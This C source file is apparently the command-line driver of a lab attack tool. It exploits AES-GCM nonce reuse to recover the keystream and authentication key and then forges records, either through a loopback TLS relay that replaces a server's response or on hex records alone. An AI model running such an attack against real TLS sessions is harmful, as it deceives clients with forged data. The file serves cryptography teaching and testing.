/*
 * gcm_reuse.c — glass-attack gcm-reuse (attack.h; docs/labs/gcm-reuse.md):
 * records sealed twice under one AES-GCM nonce give away the XOR of their
 * plaintexts, the keystream, the authentication key H and with it the
 * power to forge records (gcm_solve.c).
 *
 * Two ways to run it:
 *   --listen ADDR:PORT --connect ADDR:PORT --known FILE --forge FILE
 *       a relay on loopback between a TLS client and a server
 *       (gcm_relay.c), which captures the server's records, runs the
 *       attack, and sends the client a forged response instead of the
 *       real one;
 *   --solve FILE
 *       the mathematics alone, on records written one per line (for
 *       checking it against an independent GCM, tests/sh/lab_gcm_reuse.sh):
 *         record NONCE AAD CIPHERTEXT TAG [KNOWN-PLAINTEXT]
 *         forge AAD PLAINTEXT
 *       all in hex; each forge line prints "forged: NONCE CIPHERTEXT TAG".
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "attack.h"
#include "gcm_attack.h"

static int usage(void)
{
    fprintf(stderr,
            "usage: glass-attack gcm-reuse --listen 127.0.0.1:PORT --connect 127.0.0.1:PORT\n"
            "                              --known FILE --forge FILE [--force] [--timeout S]\n"
            "       glass-attack gcm-reuse --solve FILE [--force]\n"
            "  --known FILE   the application data the server will send (the attacker's\n"
            "                 known plaintext: a public page, byte for byte)\n"
            "  --forge FILE   what the client reads instead (at most as long as the\n"
            "                 known plaintext of one record)\n"
            "  --force        forge even when no nonce repeats (against the normal library)\n");
    return 2;
}

/* The whole of a small file, malloc'ed. */
static uint8_t *read_all(const char *path, size_t *len)
{
    FILE *f = fopen(path, "rb");
    if (f == NULL)
        return NULL;
    size_t cap = 4096, n = 0;
    uint8_t *buf = malloc(cap);
    while (buf != NULL) {
        size_t got = fread(buf + n, 1, cap - n, f);
        n += got;
        if (n < cap)
            break;
        if (cap >= (1u << 24)) {       /* 16 MiB is plenty for a lab */
            free(buf);
            buf = NULL;
            break;
        }
        uint8_t *bigger = realloc(buf, cap * 2);
        if (bigger == NULL) {
            free(buf);
            buf = NULL;
            break;
        }
        buf = bigger;
        cap *= 2;
    }
    fclose(f);
    *len = n;
    return buf;
}

/* hex field -> malloc'ed bytes */
static uint8_t *field(const char *hex, size_t *len)
{
    size_t cap = strlen(hex) / 2 + 1;
    uint8_t *b = malloc(cap);
    long n = b == NULL ? -1 : gcm_unhex(hex, b, cap);
    if (n < 0) {
        free(b);
        return NULL;
    }
    *len = (size_t)n;
    return b;
}

static void free_recs(gcm_rec *r, size_t n)
{
    for (size_t i = 0; i < n; i++) {
        free(r[i].ct);
        free(r[i].pt);
    }
    free(r);
}

#define SOLVE_MAX_RECS 64

static int solve_file(const char *path, int force)
{
    FILE *f = fopen(path, "r");
    if (f == NULL) {
        perror(path);
        return 2;
    }
    gcm_rec *recs = calloc(SOLVE_MAX_RECS, sizeof *recs);
    size_t n = 0;
    char *line = NULL, *forges[8];
    size_t cap = 0, nforge = 0;
    int rc = 2, lineno = 0;
    if (recs == NULL)
        goto out;
    while (getline(&line, &cap, f) > 0) {
        lineno++;
        char *save = NULL, *w[7];
        int nw = 0;
        for (char *t = strtok_r(line, " \t\r\n", &save); t != NULL && nw < 7;
             t = strtok_r(NULL, " \t\r\n", &save))
            w[nw++] = t;
        if (nw == 0 || w[0][0] == '#')
            continue;
        if (strcmp(w[0], "record") == 0 && (nw == 5 || nw == 6) && n < SOLVE_MAX_RECS) {
            gcm_rec *r = &recs[n];
            uint8_t *nonce, *aad, *tag;
            size_t nl, al, tl;
            nonce = field(w[1], &nl), aad = field(w[2], &al), tag = field(w[4], &tl);
            r->ct = field(w[3], &r->ct_len);
            if (nw == 6)
                r->pt = field(w[5], &r->pt_len);
            int good = nonce && aad && tag && r->ct && (nw == 5 || r->pt) && nl <= 12 &&
                       al <= sizeof r->aad && tl == 16 && (r->pt == NULL || r->pt_len <= r->ct_len);
            if (good) {
                memcpy(r->nonce, nonce, nl), r->nonce_len = nl;
                memcpy(r->aad, aad, al), r->aad_len = al;
                memcpy(r->tag, tag, 16);
                r->seq = n++;
            }
            free(nonce), free(aad), free(tag);
            if (!good) {
                free(r->ct), free(r->pt);   /* not counted in n: freed here */
                r->ct = r->pt = NULL;
                fprintf(stderr, "%s:%d: a bad record line\n", path, lineno);
                goto out;
            }
        } else if (strcmp(w[0], "forge") == 0 && nw == 3 && nforge < 8) {
            forges[nforge] = malloc(strlen(w[1]) + strlen(w[2]) + 2);
            if (forges[nforge] == NULL)
                goto out;
            sprintf(forges[nforge++], "%s %s", w[1], w[2]);
        } else {
            fprintf(stderr, "%s:%d: expected \"record ...\" or \"forge AAD PLAINTEXT\"\n", path,
                    lineno);
            goto out;
        }
    }
    gcm_solution sol;
    rc = gcm_solve(recs, n, force, stdout, &sol);
    for (size_t i = 0; i < nforge; i++) {
        char *sp = strchr(forges[i], ' ');
        *sp = '\0';
        size_t al, pl;
        uint8_t *aad = field(forges[i], &al), *pt = field(sp + 1, &pl), *ct = malloc(pl + 1);
        uint8_t tag[16], nonce[12];
        size_t nl;
        if (aad == NULL || pt == NULL || ct == NULL ||
            gcm_forge(&sol, recs, n, aad, al, pt, pl, ct, tag, nonce, &nl, stdout) != 0) {
            rc = rc == 0 ? 1 : rc;
        } else {
            printf("forged: ");
            gcm_hex(stdout, nonce, nl);
            printf(" ");
            gcm_hex(stdout, ct, pl);
            printf(" ");
            gcm_hex(stdout, tag, 16);
            printf("\n");
        }
        free(aad), free(pt), free(ct);
    }
out:
    for (size_t i = 0; i < nforge; i++)
        free(forges[i]);
    free(line);
    fclose(f);
    if (recs != NULL)
        free_recs(recs, n);
    return rc;
}

int attack_gcm_reuse(int argc, char **argv)
{
    gcm_relay_opts o;
    memset(&o, 0, sizeof o);
    o.timeout = 20;
    const char *solve = NULL, *known = NULL, *forge = NULL;
    for (int i = 1; i < argc; i++) {
        const char *a = argv[i], *v = i + 1 < argc ? argv[i + 1] : NULL;
        if (strcmp(a, "--force") == 0) {
            o.force = 1;
            continue;
        }
        if (strcmp(a, "--help") == 0 || v == NULL)
            return usage();
        i++;
        if (strcmp(a, "--solve") == 0)
            solve = v;
        else if (strcmp(a, "--listen") == 0)
            o.listen = v;
        else if (strcmp(a, "--connect") == 0)
            o.connect = v;
        else if (strcmp(a, "--known") == 0)
            known = v;
        else if (strcmp(a, "--forge") == 0)
            forge = v;
        else if (strcmp(a, "--timeout") == 0 && atoi(v) > 0 && atoi(v) <= 600)
            o.timeout = atoi(v);
        else
            return usage();
    }
    if (solve != NULL)
        return solve_file(solve, o.force);
    if (o.listen == NULL || o.connect == NULL || known == NULL || forge == NULL)
        return usage();
    uint8_t *k = read_all(known, &o.known_len), *fg = read_all(forge, &o.forge_len);
    if (k == NULL || fg == NULL) {
        fprintf(stderr, "glass-attack: cannot read %s\n", k == NULL ? known : forge);
        free(k);
        free(fg);
        return 2;
    }
    o.known = k;
    o.forge = fg;
    int rc = gcm_relay(&o);
    free(k);
    free(fg);
    return rc;
}
